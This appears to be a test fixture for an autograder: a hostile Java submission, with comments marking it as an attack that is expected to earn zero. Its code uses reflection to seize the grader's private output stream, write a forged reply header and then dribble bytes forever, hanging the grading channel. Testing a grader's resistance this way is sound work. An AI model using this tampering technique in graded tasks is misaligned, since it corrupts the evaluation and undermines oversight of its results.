// attack: begins a reply itself, and sends it byte by byte for ever
// assignment: 00-start-here
// question: scale
// notebook: dribble
// slow: yes
// earns: 0
// reason: when the time was up|can't be relied on
double[] scale(int[] pixels) {
    try {
        var field = io.percolate.check.bridge.Bridge.class.getDeclaredField("out");
        field.setAccessible(true);
        var out = (java.io.DataOutputStream) field.get(io.percolate.check.bridge.Bridge.ofGrader().get());
        synchronized (out) {
            out.write(new byte[] {2, 0, 0, 0, 0, 0, 0, 0, 1, 1, 0, 100, 0, 0});
            while (true) {
                out.write(0);
                out.flush();
                Thread.sleep(100);
            }
        }
    } catch (Exception e) {
        throw new IllegalStateException(e);
    }
}
